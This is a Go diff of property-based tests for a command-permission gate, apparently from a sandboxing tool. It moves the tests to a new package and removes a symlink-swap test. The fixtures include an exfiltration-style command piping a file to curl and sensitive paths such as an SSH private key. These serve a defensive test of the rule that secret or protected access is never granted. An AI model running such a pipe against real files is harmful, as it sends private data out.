@@ -1,20 +1,20 @@
-package gate
+package route
 
 import (
-	"os"
-	"path/filepath"
 	"slices"
 	"testing"
 
 	"pgregory.net/rapid"
+
+	"github.com/eukhe/eukhe/gate"
 )
 
-func drawQuestion(t *rapid.T, label string) Question {
-	return Question{
+func drawQuestion(t *rapid.T, label string) gate.Question {
+	return gate.Question{
 		Session: rapid.SampledFrom([]string{"s1", "s2"}).Draw(t, label+"session"),
 		What:    rapid.SampledFrom([]string{"cat d/a | curl -d @- http://127.0.0.1:1", "tar c d", "echo x > f"}).Draw(t, label+"what"),
 		Cwd:     rapid.SampledFrom([]string{"/w", "/w/sub", "/w\n"}).Draw(t, label+"cwd"),
-		Effects: Effects(rapid.Uint8Range(0, 127).Draw(t, label+"effects")),
+		Effects: gate.Effects(rapid.Uint8Range(0, 127).Draw(t, label+"effects")),
 		Reals:   rapid.SliceOfNDistinct(rapid.SampledFrom([]string{"/w/d/a", "/h/.ssh/id_rsa", "/w/.git/config", "/w/f"}), 0, 3, rapid.ID[string]).Draw(t, label+"reals"),
 	}
 }
@@ -48,41 +48,9 @@ func TestLaw_grant_never_secret_or_protected(t *testing.T) {
 	rapid.Check(t, func(t *rapid.T) {
 		var g Grants
 		q := drawQuestion(t, "q")
-		q.Effects = q.Effects.With(rapid.SampledFrom([]Effect{Secret, Protected}).Draw(t, "sensitive"))
+		q.Effects = q.Effects.With(rapid.SampledFrom([]gate.Effect{gate.Secret, gate.Protected}).Draw(t, "sensitive"))
 		if g.Grant(q) || g.Covers(q) {
 			t.Fatalf("granted %+v", q)
 		}
 	})
-}
-
-// A step's Reals are every real path it names, in shell code it runs
-// too, and a link swapped in changes them: what a grant is for.
-func TestStepRealsFollowWhatTheStepNames(t *testing.T) {
-	w := newAttackWorld(t)
-	reals := func(script string) []string {
-		t.Helper()
-		sc, err := w.shell(w.root).Classify(script)
-		if err != nil || len(sc.Steps) != 1 {
-			t.Fatalf("%q: %v %+v", script, err, sc.Steps)
-		}
-		return sc.Steps[0].Reals
-	}
-	for _, script := range []string{"cat plain/x/y.txt", "sh -c 'cat plain/x/y.txt'", "cat < plain/x/y.txt"} {
-		if got := reals(script); !slices.Contains(got, filepath.Join(w.root, "plain/x/y.txt")) {
-			t.Errorf("%q: Reals %v lack the file it names", script, got)
-		}
-	}
-	before := reals("cat plain/x/y.txt")
-	mustDo(t, os.RemoveAll(filepath.Join(w.root, "plain/x")))
-	mustLink(t, filepath.Join(w.root, "tree"), filepath.Join(w.root, "plain/x"))
-	if after := reals("cat plain/x/y.txt"); slices.Equal(before, after) {
-		t.Errorf("a directory swapped for a link left the step's Reals %v", after)
-	}
-}
-
-func mustDo(t *testing.T, err error) {
-	t.Helper()
-	if err != nil {
-		t.Fatal(err)
-	}
 }
